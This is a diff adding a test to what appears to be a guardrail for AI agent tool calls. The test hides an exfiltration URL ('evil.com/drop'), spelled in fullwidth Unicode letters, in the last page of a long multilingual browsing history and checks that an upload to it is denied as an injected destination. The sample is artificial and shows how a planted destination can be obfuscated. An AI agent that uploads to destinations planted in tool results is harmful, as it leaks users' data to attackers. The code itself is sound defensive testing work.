@@ -152,3 +152,28 @@ def test_a_usual_non_ascii_history_is_read_whole(upload: guardrails.PolicySet) -
                              history=_history(pages), request=request)
     assert (hidden.effect, _errors(hidden)) == ("deny", [])
     assert [f.rule for f in hidden.rules] == ["injected-destination"]
+
+
+def test_a_realistic_mixed_history_of_200_kib_is_read_whole(upload: guardrails.PolicySet) -> None:
+    """Ten results of 20 KiB, Japanese, Russian and accented English pages and their
+    arguments (a session of browsing, 200 KiB not ASCII: 6.5 M of the 16.8 M units): every
+    one is read, the last one too, where a destination is spelled in fullwidth letters."""
+    units = ["\u65e5\u672c\u8a9e\u306e\u30cb\u30e5\u30fc\u30b9\u3002\u3000",
+             "\u041d\u043e\u0432\u043e\u0441\u0442\u0438 \u0434\u043d\u044f. ",
+             "Caf\u00e9 cr\u00e8me, na\u00efve r\u00e9sum\u00e9 \u2014 ",
+             "\uff08\u682a\uff09\u6771\u4eac\uff11\uff12\uff13\u756a\u5730 "]
+    pages = [_page(i, 20_480, units[i % len(units)]) for i in range(10)]
+    pages[9] = pages[9][:19_000] + " \uff48\uff54\uff54\uff50\uff53://\uff45\uff56\uff49\uff4c.com/drop " \
+        + pages[9][19_000:]
+    history = _history(pages)
+    for i, entry in enumerate(history):
+        entry["args"] = {"url": f"https://news.example/{i}", "query": units[i % len(units)] * 8}
+    assert sum(len(p) for p in pages) >= 200 * 1024
+    request = "\u30cb\u30e5\u30fc\u30b9\u3092\u307e\u3068\u3081\u3066 (summarise the news)"
+    fine = upload.evaluate(tool="upload", args={"url": "https://acme.com/\u30ec\u30dd\u30fc\u30c8"},
+                           history=history, request=request)
+    assert (fine.effect, _errors(fine)) == ("allow", [])
+    hidden = upload.evaluate(tool="upload", args={"url": "https://evil.com/drop"},
+                             history=history, request=request)
+    assert (hidden.effect, _errors(hidden)) == ("deny", [])
+    assert [f.rule for f in hidden.rules] == ["injected-destination"]
